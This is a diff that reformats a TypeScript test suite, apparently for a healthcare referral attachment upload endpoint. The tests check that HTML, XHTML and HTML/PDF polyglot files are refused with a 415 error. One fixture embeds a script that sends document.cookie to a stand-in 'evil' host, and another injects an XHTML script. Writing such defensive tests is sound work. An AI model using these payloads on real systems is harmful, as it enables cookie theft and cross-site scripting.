@@ -3,7 +3,10 @@ import { pdfFile } from '../../simulator/data/files';
 
 const PDF = pdfFile(['Referral letter', 'Please see this patient.']);
 /** Starts like a PDF (magic bytes in the first kilobyte) but is an HTML page to a browser that sniffs it. */
-const POLYGLOT = Buffer.concat([Buffer.from('%PDF-1.4\n%<html><body><script>fetch("//evil/?c="+document.cookie)</script></body></html>\n', 'latin1'), PDF]);
+const POLYGLOT = Buffer.concat([
+  Buffer.from('%PDF-1.4\n%<html><body><script>fetch("//evil/?c="+document.cookie)</script></body></html>\n', 'latin1'),
+  PDF,
+]);
 const UPLOAD = 'mutation($file: Upload!) { uploadAttachment(file: $file) { url } }';
 
 interface Body {
@@ -51,7 +54,12 @@ describe('uploads holding HTML or script', () => {
   it.each([
     ['an HTML/PDF polyglot named .pdf', POLYGLOT, 'letter.pdf', '<html'],
     ['an HTML page named .txt', Buffer.from('<!DOCTYPE html>\n<p>Referral</p>'), 'letter.txt', '<!doctype html'],
-    ['XML that brings XHTML', Buffer.from('<?xml version="1.0"?><letter xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></letter>'), 'letter.xml', 'http://www.w3.org/1999/xhtml'],
+    [
+      'XML that brings XHTML',
+      Buffer.from('<?xml version="1.0"?><letter xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></letter>'),
+      'letter.xml',
+      'http://www.w3.org/1999/xhtml',
+    ],
   ])('POST /attachments refuses %s with 415 ACTIVE_CONTENT and no e-RS call', async (_what, bytes, name, marker) => {
     const { status, body } = await postAttachment(bytes, name);
     expect(status).toBe(415);
